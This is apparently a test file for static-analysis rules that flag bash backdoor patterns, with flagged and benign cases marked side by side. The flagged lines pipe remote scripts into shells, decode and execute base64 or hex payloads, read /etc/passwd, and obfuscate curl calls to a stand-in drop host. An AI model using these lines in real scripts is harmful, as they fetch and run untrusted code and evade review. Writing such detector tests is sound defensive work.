#!/bin/bash
set -euo pipefail

# ruleid: bash.backdoor.download-and-run
curl -fsSL https://get.tool.example/install.sh | sh
# ruleid: bash.backdoor.download-and-run
wget -qO- "https://get.tool.example/install?os=linux&arch=x64" | tee install.log | sudo -E bash -s -- --yes
# ruleid: bash.backdoor.download-and-run
curl -sSL \
  https://get.tool.example/install.py \
  | python3 -
# ruleid: bash.backdoor.download-and-run
bash <(curl -s https://get.tool.example/install.sh) --quiet
# ruleid: bash.backdoor.download-and-run
eval "$(curl -fsSL https://get.tool.example/env)"
# ruleid: bash.backdoor.download-and-run
sh -c "$(wget -qO- https://get.tool.example/install.sh)"
# ruleid: bash.backdoor.download-and-run
echo "$(curl -s https://get.tool.example/install.sh | sh)"
until ready; do
  # ruleid: bash.backdoor.download-and-run
  curl -s https://get.tool.example/step | bash
done
# ok: bash.backdoor.download-and-run
curl -fsSL https://api.corp.example/v1/state | jq -r .status
# ok: bash.backdoor.download-and-run
curl -fsSL https://api.corp.example/v1/state | python3 -m json.tool
# ok: bash.backdoor.download-and-run
curl -fsSL https://get.tool.example/tool.tar.gz | tar xz -C /opt/tool
# ok: bash.backdoor.download-and-run
curl -fsSL https://get.tool.example/tool.tar.gz | sha256sum -c tool.sha256
# ok: bash.backdoor.download-and-run
curl -fsS https://api.corp.example/ready || sh ./restart.sh
# ok: bash.backdoor.download-and-run
echo "Install it with: curl -fsSL https://get.tool.example/install.sh | sh"

# ruleid: bash.backdoor.run-after-download
curl -fsSLo /usr/local/bin/tool https://get.tool.example/tool
chmod +x /usr/local/bin/tool

# ruleid: bash.backdoor.run-after-download
wget -q https://get.tool.example/install.sh -O "$installer" && bash "$installer" --yes

# ok: bash.backdoor.run-after-download
curl -fsSL -o checked https://get.tool.example/tool
echo "$TOOL_SHA256  checked" | sha256sum -c -
chmod +x checked

# ok: bash.backdoor.run-after-download
curl -fsSL -o data.json https://api.corp.example/data.json
bash ./convert.sh data.json

# ruleid: bash.backdoor.decode-and-run
echo "ZWNobyBoaQo=" | base64 -d | bash
# ruleid: bash.backdoor.decode-and-run
eval "$(echo "$PAYLOAD" | base64 --decode)"
# ruleid: bash.backdoor.decode-and-run
xxd -r -p payload.hex | sh
# ruleid: bash.backdoor.decode-and-run
python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
# ruleid: bash.backdoor.decode-and-run
echo 'hs.llatsni/ hs' | rev | sh
# ok: bash.backdoor.decode-and-run
echo "$KUBECONFIG_DATA" | base64 -d > "$HOME/.kube/config"
# ok: bash.backdoor.decode-and-run
token="$(kubectl get secret app -o jsonpath='{.data.token}' | base64 -d)"
# ok: bash.backdoor.decode-and-run
gunzip -c backup.sql.gz | psql app
# ok: bash.backdoor.decode-and-run
eval "$(ssh-agent -s)"

# ruleid: bash.backdoor.hidden-command
$'\x63\x75\x72\x6c' -s https://drop.example/x
# ruleid: bash.backdoor.hidden-command
c""url -s https://drop.example/x
# ruleid: bash.backdoor.hidden-command
cu\rl -s https://drop.example/x
# ruleid: bash.backdoor.hidden-command
cat${IFS}/etc/passwd
# ruleid: bash.backdoor.hidden-command
${A:3:1}${A:7:1}${A:1:1} -s https://drop.example/x
# ok: bash.backdoor.hidden-command
printf '\033[1;31m%s\033[0m\n' "failed"
# ok: bash.backdoor.hidden-command
old_ifs="$IFS"; IFS=$'\n'
# ok: bash.backdoor.hidden-command
"curl" -s "https://api.corp.example/${version:0:1}"
# ok: bash.backdoor.hidden-command
printf '\xe2\x9c\x93 done\n'
